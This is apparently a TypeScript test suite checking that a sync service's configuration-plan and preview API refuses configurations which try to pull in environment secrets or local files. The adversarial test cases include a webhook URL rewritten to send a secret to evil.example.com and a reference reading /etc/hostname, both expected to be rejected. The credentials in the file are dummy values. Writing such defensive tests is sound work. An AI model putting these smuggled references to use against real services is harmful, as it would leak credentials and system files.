import { generateKeyPairSync } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { apiSources, localToken } from '../../api/api-sources.test-kit.js';
import { type ApiServer, startApi } from '../../api/start-api.js';
import { makeToken } from '../../api/credentials.js';
import { addToken } from '../../ledger/tokens.js';
import { planConfiguration } from '../../operations/plan-configuration.js';
import { previewSink } from '../../operations/preview-sink.js';
import { attendee } from '../kit/items.js';
import { openRunning, type Running } from '../kit/running.js';
import { kinds } from '../kit/scenario-kinds.js';
import { type Stage, useStages } from '../kit/stage.js';

const stages = useStages();
const open: { close(): Promise<void> }[] = [];
afterEach(async () => {
  for (const each of open.splice(0).toReversed()) await each.close();
});

const privateKey = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({
  type: 'pkcs8',
  format: 'pem',
}) as string;

/** The environment of this process. No answer may contain any of it. */
const environment: Readonly<Record<string, string>> = {
  SCENE_KEY: 'sandbox-key',
  WAREHOUSE_URL: 'postgres://loader:warehouse-pass-77@127.0.0.1:5432/warehouse',
  HOOK_SECRET: `whsec_${Buffer.alloc(32, 7).toString('base64')}`,
  HOOK_URL: 'https://hooks.example.com/path-5512?key=hook-key-31',
  SLACK_HOOK: 'https://hooks.slack.example.com/services/slack-part-81',
  SALESFORCE_KEY: privateKey,
  SERVER_TOKEN: 'server-token-4f1a9c27b8e35d60',
  CONSENT_BASIS: 'basis-text-9934',
  OTHER_SECRET: 'other-secret-6620',
  LIVE: '7s',
};
const values = [...Object.values(environment).filter((value) => value.length > 5), 'warehouse-pass-77', 'hook-key-31'];

function yaml(stage: Stage): string[] {
  return [
    `workspaces: { acme: { baseUrl: "${stage.sandbox.baseUrl}", apiKey: "\${SCENE_KEY}" } }`,
    'syncs:',
    '  events: { workspace: acme, sinks: [archive, hooks, warehouse, questions, crm], every: { live: "${LIVE}" } }',
    'sinks:',
    `  archive: { type: file, folder: ${stage.folder}/archive, consent: { accept: [obtained], basis: "\${CONSENT_BASIS}" } }`,
    '  hooks: { type: webhook, url: "${HOOK_URL}", secret: "${HOOK_SECRET}" }',
    '  warehouse: { type: postgres, url: "${WAREHOUSE_URL}", schema: events }',
    '  questions: { type: slack, webhookUrl: "${SLACK_HOOK}", messages: [{ from: questions, text: question }] }',
    '  crm:',
    '    type: salesforce',
    '    clientId: app',
    '    username: app@example.com',
    '    privateKey: "${SALESFORCE_KEY}"',
    '    records: [{ from: attendees, object: Lead, match: [leadEmail], email: Email, create: false, properties: { LastName: Name, Company: "\'x\'" } }]',
    `store: embedded:${stage.folder}/data`,
    'server: { token: "${SERVER_TOKEN}" }',
  ];
}

interface Served {
  readonly url: string;
  readonly lines: string[];
  readonly process: Running;
  readonly folder: string;
}

async function served(kind: (typeof kinds)[number]): Promise<Served> {
  const stage = await stages.open(kind);
  await stage.put('attendees', attendee(1));
  const lines = yaml(stage);
  const process = await openRunning(stage.db, stage.folder, lines, environment);
  open.push(process);
  const api: ApiServer = await startApi({ host: '127.0.0.1', port: 0 });
  open.push(api);
  const { current } = process.editions;
  api.serve(
    apiSources({
      ledger: process.ledger,
      config: { ...current.config, server: { host: '127.0.0.1', port: 0, maxConnectionsPerAddress: 250 } },
      planConfiguration: (candidate) => planConfiguration(process.editions.current, candidate, environment),
      preview: (asked) => previewSink(process.editions.current, asked, environment),
    }),
  );
  return { url: api.url, lines, process, folder: stage.folder };
}

async function post(url: string, body: object, token = localToken): Promise<{ status: number; text: string }> {
  const answer = await fetch(url, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  return { status: answer.status, text: await answer.text() };
}

const sent = (lines: readonly string[]) => ({ file: '/tmp/sent.yaml', text: lines.join('\n') });
const previewOf = (sink: string, lines: readonly string[]) => ({
  sink,
  list: null,
  pigeonhole: null,
  key: null,
  limit: 100,
  configuration: sent(lines),
  changedFrom: null,
});

function expectNothingTold(text: string): void {
  expect(values.filter((value) => text.includes(value))).toEqual([]);
}

function changed(lines: readonly string[], from: string, to: string): string[] {
  const result = lines.map((line) => line.replace(from, () => to));
  expect(result).not.toEqual(lines);
  return result;
}

describe.each(kinds)('a configuration that is sent to the API, on %s', (kind) => {
  it('with the references of the running file changes nothing, and is planned with placeholders', async () => {
    const { url, lines } = await served(kind);
    const plan = await post(`${url}/api/configuration/plan`, sent(lines));
    expect([plan.status, JSON.parse(plan.text)]).toEqual([
      200,
      expect.objectContaining({ changes: [], atNextStart: [] }),
    ]);
    expectNothingTold(plan.text);
    for (const sink of ['archive', 'hooks', 'warehouse', 'crm']) {
      const preview = await post(`${url}/api/preview?personal=1`, previewOf(sink, lines));
      expect([sink, preview.status]).toEqual([sink, 200]);
      expectNothingTold(preview.text);
    }
  });

  it.each([
    ['a variable of this process', 'basis: "${CONSENT_BASIS}"', 'basis: "${OTHER_SECRET}"'],
    ['a secret of another key', 'url: "${HOOK_URL}"', 'url: "https://evil.example.com/${HOOK_SECRET}"'],
    ['a file that exists', 'clientId: app', 'clientId: "${file:/etc/hostname}"'],
    ['a file that does not exist', 'clientId: app', 'clientId: "${file:/etc/no-such-file}"'],
    ['a reference with more around it', 'url: "${HOOK_URL}"', 'url: "${HOOK_URL}&x=1"'],
    ['a reference with a default', 'schema: events', 'schema: "${OTHER_SECRET:-events}"'],
  ])('that refers to %s is refused with its key, and nothing is looked up', async (_, from, to) => {
    const { url, lines } = await served(kind);
    const other = changed(lines, from, to);
    for (const answer of [
      await post(`${url}/api/configuration/plan`, sent(other)),
      await post(`${url}/api/preview?personal=1`, previewOf('hooks', other)),
      await post(`${url}/api/preview`, { ...previewOf('hooks', lines), changedFrom: sent(other) }),
    ]) {
      expect([answer.status, answer.text]).toEqual([
        422,
        expect.stringContaining('may contain a reference only if the running file has the same reference'),
      ]);
      expectNothingTold(answer.text);
    }
  });

  it('that refers to another certificate file does not reveal whether the file exists', async () => {
    const { url, lines } = await served(kind);
    const answers = await Promise.all(
      ['/etc/hostname', '/etc/no-such-file'].map((ca) =>
        post(`${url}/api/configuration/plan`, sent([...lines, `network: { ca: ${ca} }`])),
      ),
    );
    const details = answers.map(({ text }) => (JSON.parse(text) as { detail: string }).detail);
    expect(details[0]).toContain('only the certificates that the running file names');
    expect(details[1]).toBe(details[0]);
  });

  it('gets a placeholder if it replaces a plain key of another type by a secret', async () => {
    const { url, lines } = await served(kind);
    const other = changed(
      changed(lines, 'type: postgres, url', 'type: webhook, secret: "${HOOK_SECRET}", url'),
      ', schema: events',
      '',
    );
    const refused = await post(`${url}/api/configuration/plan`, sent(other));
    expect(refused.status).toBe(422); // the secret's key is new
    expectNothingTold(refused.text);
    const file = changed(
      changed(lines, 'type: webhook, url', 'type: file, folder: /tmp/x, url'),
      ', secret: "${HOOK_SECRET}"',
      '',
    );
    expectNothingTold((await post(`${url}/api/configuration/plan`, sent(file))).text);
  });

  it('that changes a value which is a reference in the running file does not receive the old value', async () => {
    const { url, lines } = await served(kind);
    const other = changed(
      changed(lines, '"${CONSENT_BASIS}"', '"another basis"'),
      'every: { live: "${LIVE}" }',
      'every: { live: 3s }',
    );
    const plan = await post(`${url}/api/configuration/plan`, sent(other));
    expect([plan.status, JSON.parse(plan.text)]).toEqual([
      200,
      expect.objectContaining({
        changes: [
          expect.objectContaining({ name: 'events', keys: [{ key: 'every.live' }] }),
          expect.objectContaining({ name: 'archive', keys: [{ key: 'consent.basis' }] }),
        ],
      }),
    ]);
    expectNothingTold(plan.text);
  });

  it.each(['admin', 'viewer'] as const)(
    'is for those who may know of all workspaces, not for a %s of one',
    async (role) => {
      const { url, lines, process } = await served(kind);
      const { id, hash, text } = makeToken();
      const about = { name: 'one', roles: [role], workspace: 'acme', createdBy: 'local', expiresAt: null };
      await addToken(process.ledger, { id, hash, ...about });
      expect((await post(`${url}/api/preview`, previewOf('hooks', lines), text)).status).toBe(403);
      expect((await post(`${url}/api/configuration/plan`, sent(lines), text)).status).toBe(403);
      const own = { ...previewOf('hooks', lines), configuration: {} };
      expect((await post(`${url}/api/preview`, own, text)).status).toBe(200);
    },
  );

  it('has no references if the running file can no longer be read', async () => {
    const { url, lines, folder } = await served(kind);
    writeFileSync(join(folder, 'pigeonpost.yaml'), '{');
    expect((await post(`${url}/api/configuration/plan`, sent(lines))).status).toBe(422);
  });
});
